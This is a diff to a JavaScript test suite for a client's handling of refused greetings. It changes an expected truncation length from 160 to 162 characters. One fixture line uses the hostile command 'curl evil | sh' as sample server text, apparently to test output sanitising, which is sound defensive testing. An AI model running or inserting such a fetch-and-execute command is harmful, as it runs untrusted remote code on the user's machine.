@@ -170,7 +170,7 @@ describe('a greeting fails', () => {
     const reply = told('board/not-loaded', `load\u001b[31m it\n✔ done ${'x'.repeat(500)}`);
     await expect(dial(await serve((socket) => socket.end(reply)))).rejects.toMatchObject({
       code: 'auth/refused',
-      message: `what answers at the address of zed0 refused the greeting before it had proven the key; it says: board/not-loaded: load?[31m it?? done ${'x'.repeat(160)}...`,
+      message: `what answers at the address of zed0 refused the greeting before it had proven the key; it says: board/not-loaded: load?[31m it?? done ${'x'.repeat(162)}...`,
       hint: 'check the address, and the log of that board',
     });
     const full = told('board/too-many-clients', 'curl evil | sh');
